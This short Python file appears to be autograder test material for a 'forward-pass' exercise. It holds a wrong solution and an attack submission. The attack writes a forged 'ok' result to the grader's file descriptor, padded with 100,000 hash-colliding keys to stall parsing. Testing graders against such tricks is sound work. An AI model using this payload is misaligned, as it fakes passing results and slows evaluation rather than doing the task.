"""A dict of 100 000 keys with one hash

Reading it takes the grader a minute and more, if it reads it.
"""

UNIT, EXERCISE = "01-computational-graph", "forward-pass"

WRONG = """
def forward_pass(graph, inputs):
    values = dict(inputs)
    for name, (op, (a, b)) in graph.items():  # the order of the entries
        values[name] = values[a] + values[b]  # whatever the op
    return values
"""

ATTACK = """
import os
import struct


def forward_pass(graph, inputs):
    pairs = ",".join(f"[{k * (2**61 - 1)},0]" for k in range(1, 100_001))
    header = f'[[],["t",["ok",["d",[{pairs}]]]]]'.encode()
    os.write(3, struct.pack("!II", len(header), 0) + header)
"""

HARMS = "there is no wire"
